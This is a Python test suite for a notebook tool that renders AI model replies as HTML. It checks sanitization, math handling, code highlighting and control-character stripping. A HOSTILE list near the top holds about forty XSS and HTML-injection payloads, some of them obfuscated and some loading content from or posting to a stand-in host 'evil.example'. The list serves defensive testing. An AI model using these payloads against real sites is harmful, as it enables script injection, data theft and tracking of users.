"""Model text as HTML: what looks right, and what must never get through."""

from __future__ import annotations

import re
import subprocess
import sys
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chatnb.rendering import escaped, printable, reply_html, reply_text, terminal_text

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<b onmouseover='alert(1)'>x</b>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "<javascript:alert(1)>",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<iframe src='https://evil.example'></iframe>",
    "<form action='https://evil.example'><input name=key><button>Go</button></form>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<style>body{background:url(https://evil.example/b)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href=//evil.example>",
    "<a data-commandlinker-command='console:create' href='#'>x</a>",
    "[x](/lab/api/shutdown) [y](//evil.example/x) [z](#id) [w](files/a.ipynb)",
    "![beacon](https://evil.example/b.png) ![](http://evil.example/c.gif)",
    "[![a](https://evil.example/b.png)](javascript:alert(1))",
    "![a`<img src=x onerror=alert(1)>`](https://evil.example/\"onload=\"alert(1))",
    '[x](https://ok.example "\\" onclick=\\"alert(1)")',
    "```\"><script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "```html onload=alert(1)\n<img src=x onerror=alert(1)>\n```",
    "```python\n'<script>alert(1)</script>' # </span></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "$<script>alert(1)</script>$ and $$<img src=x onerror=alert(1)>$$",
    "\\[\n<img src=x onerror=alert(1)>\n\\] \\(<svg onload=alert(1)>\\)",
    "| <script>a</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
    "<div style='position:fixed;inset:0'>x</div>",
    "a\0b <scr\0ipt>alert(1)</scr\0ipt>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p><p><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]  # fmt: skip

TAGS = {
    "div", "p", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "hr", "ul", "ol", "li",
    "table", "thead", "tbody", "tr", "th", "td", "a", "br", "strong", "em", "s", "code", "span",
}  # fmt: skip
ATTRIBUTES = {"style", "class", "dir", "start", "href", "title", "rel", "target"}


class Checker(HTMLParser):
    """Fails at the first thing that a reply may not hold."""

    def __init__(self) -> None:
        super().__init__()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        values = dict(attributes)
        assert set(values) <= ATTRIBUTES
        assert "url(" not in (values.get("style") or "")
        assert "position" not in (values.get("style") or "")
        if tag == "a" and "href" in values:
            assert re.match(r"(https?|mailto):", values["href"] or "", re.IGNORECASE)
            assert values["rel"] == "noopener noreferrer"
            assert values["target"] == "_blank"
            self.links.append(values["href"] or "")

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")


def checked(html: str) -> Checker:
    checker = Checker()
    checker.feed(html)
    checker.close()
    return checker


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text):
    checked(reply_html(text))


@pytest.mark.parametrize(
    "inside", ["> {}", "- {}", "**{}**", "# {}", "| a |\n|--|\n| {} |", "[{}](x)"]
)
@pytest.mark.parametrize("text", [each for each in HOSTILE if "\n" not in each])
def test_hostile_text_stays_text_inside_markdown(inside, text):
    checked(reply_html(inside.format(text)))


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [*HOSTILE, "\n", "> ", "- ", "`", "```", "$", "\\[", "|", "*", " ", "[", "]("]
        ),
        max_size=6,
    )
)
def test_hostile_text_in_any_mixture_stays_text(parts):
    checked(reply_html("".join(parts)))


def test_an_image_is_a_link_that_says_what_it_shows():
    html = reply_html("![a cat](https://pictures.example/cat.png)")
    assert "<img" not in html
    assert checked(html).links == ["https://pictures.example/cat.png"]
    assert ">a cat</a>" in html


def test_an_image_inside_a_link_is_the_text_of_that_link():
    html = reply_html("[![build](https://x.example/b.svg) *passed*](https://ci.example/) ![c](b.d)")
    assert checked(html).links == ["https://ci.example/"]
    assert ">build <em>passed</em></a>" in html


@pytest.mark.parametrize(
    "formula",
    ["$a*b*c$", "\\(a*b*c\\)", "$$a_1*b_2*c$$", "\\[a*b*c\\]", "$x_1$", "$\\{z\\}$", "$a \\\\ b$"],
)
def test_math_reaches_mathjax_as_the_model_wrote_it(formula):
    assert f">{formula}<" in reply_html(f"So {formula} holds.")


def test_math_over_several_lines_is_no_list_and_no_heading():
    for formula in ("$$\n- a\n+ b\n= c\n$$", "\\[\n- a\n+ b\n# c\n\\]"):
        assert f"<p>{formula}</p>" in reply_html(f"{formula}\n\nAfter")


@pytest.mark.parametrize("name", ["align", "align*", "equation", "gather"])
def test_an_environment_that_is_math_by_itself_reaches_mathjax_as_it_is(name):
    formula = f"\\begin{{{name}}}\n- a_1 &= b_2 \\\\\n+ c*d*e &= f\n\\end{{{name}}}"
    expected = f"<p>{formula.replace('&', '&amp;')}</p>"
    assert expected in reply_html(f"So:\n{formula}\n\nAfter")
    assert expected in reply_html(f"- \n{formula}\n")


@pytest.mark.parametrize(
    "text",
    [
        "\\begin{itemize}\n*a*\n\\end{itemize}",
        "\\begin{align}\n*a*",
        "\\begin{align}\n\n\\end{align}",
    ],
)
def test_an_environment_that_is_no_math_or_never_ends_is_text(text):
    assert "<span>\\</span>begin" in reply_html(text)


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5 and $6.",
        "US$5-$10",
        "a $ b $ c",
        "**$5** or *$7*",
        "\\$5 and \\$6",
        "$5, $6 and $7",
    ],
)
def test_prices_are_not_math(text):
    """MathJax looks for both dollars in one text node, so each that is no math is a node alone."""
    dollars = text.count("$")
    html = reply_html(text)
    assert html.count("<span>$</span>") == html.count("$") == dollars


def test_price_beside_math():
    html = reply_html("It costs $5, and $x$ is 6.")
    assert "<span>$</span>5" in html
    assert "<span>$x$</span>" in html


def test_brackets_that_are_no_math_do_not_become_math():
    assert "\\(" not in reply_html("an open \\( and \\\\( two").replace("<span>\\</span>(", "")


def test_tables_have_their_alignment_and_lists_their_start():
    html = reply_html("| a | b | c |\n|:-|:-:|-:|\n| 1 | 2 | 3 |\n\n3. three")
    assert '<td style="text-align:start">1</td>' in html
    assert '<td style="text-align:center">2</td>' in html
    assert '<td style="text-align:right">3</td>' in html
    assert '<ol start="3"' in html


def test_strikethrough_and_emphasis():
    assert "<s>no</s> <em>so</em> <strong>yes</strong>" in reply_html("~~no~~ *so* **yes**")


def test_code_has_the_token_classes_of_the_front_ends_style_sheet():
    html = reply_html("```python\ndef f():\n    return 1  # one\n```")
    assert 'class="highlight"' in html
    for part in (
        '<span class="k">def</span>',
        '<span class="m">1</span>',
        '<span class="c"># one</span>',
    ):
        assert part in html


@pytest.mark.parametrize("language", ["", "nosuchlanguage", "python title=x", "<b>", "C++"])
def test_code_in_any_language_keeps_every_character(language):
    code = '\n\n  if (a < b && c > d) { "x"; }\n\ttab\n\n'
    html = reply_html(f"```{language}\n{code}```")
    reader = Reader()
    reader.feed(html)
    assert reader.text.strip("\n") == code.strip("\n")
    checked(html)


class Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.text = ""

    def handle_data(self, data: str) -> None:
        self.text += data


def test_right_to_left_text_finds_its_direction():
    html = reply_html("שלום\n\n- مرحبا\n\nHello")
    assert html.count('dir="auto"') >= 3
    assert '<p dir="auto" style="text-align:start">' in html  # JupyterLab has left
    assert "dir=" not in reply_html("Hello")


def test_lone_surrogates_and_nul_are_replaced_everywhere():
    text = "a\ud800b\0c"
    for shown in (
        reply_html(text),
        escaped(text),
        printable(text),
        terminal_text(text),
        reply_text(text),
    ):
        assert "a\ufffdb\ufffdc" in shown
        shown.encode()


def test_terminal_text_has_no_control_characters_but_newline_and_tab():
    everything = "".join(map(chr, range(0x250)))
    assert set(terminal_text(everything)) & {chr(code) for code in range(32)} == {"\n", "\t"}
    assert not set(terminal_text(everything)) & {chr(code) for code in range(0x7F, 0xA0)}
    assert terminal_text("\x1b]0;title\x07\x1b[2Jx\r\ny\rz\u202eabc") == "]0;title[2Jx\ny\nzabc"


def test_escaped_text_stands_for_itself_in_elements_and_attributes():
    assert escaped("<a b=\"c\" d='e'>&") == "&lt;a b=&quot;c&quot; d=&#x27;e&#x27;&gt;&amp;"


def test_a_very_long_answer_is_cut_and_says_where_the_rest_is():
    text = "# <b>title</b> $5\n" + "word " * 1_000_000
    html = reply_html(text)
    assert len(html) < 150_000
    assert "100,000 of 5,000,018 characters" in html
    assert "chatnb.session().last.reply.text" in html
    assert "<h1" not in html
    checked(html)
    assert len(reply_text(text)) < 101_000


def test_an_answer_just_below_the_limit_is_formatted():
    assert "<strong>end</strong>" in reply_html("word " * 39_000 + "**end**")


def test_importing_rendering_loads_no_heavy_library():
    code = (
        "import sys, chatnb.rendering.reply_view\n"
        "print(sorted({'markdown_it', 'pygments', 'nh3', 'IPython'} & set(sys.modules)))\n"
        "chatnb.rendering.reply_html('no code')\n"
        "print('pygments' in sys.modules)"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    )
    assert result.stdout.split("\n")[:2] == ["[]", "False"]
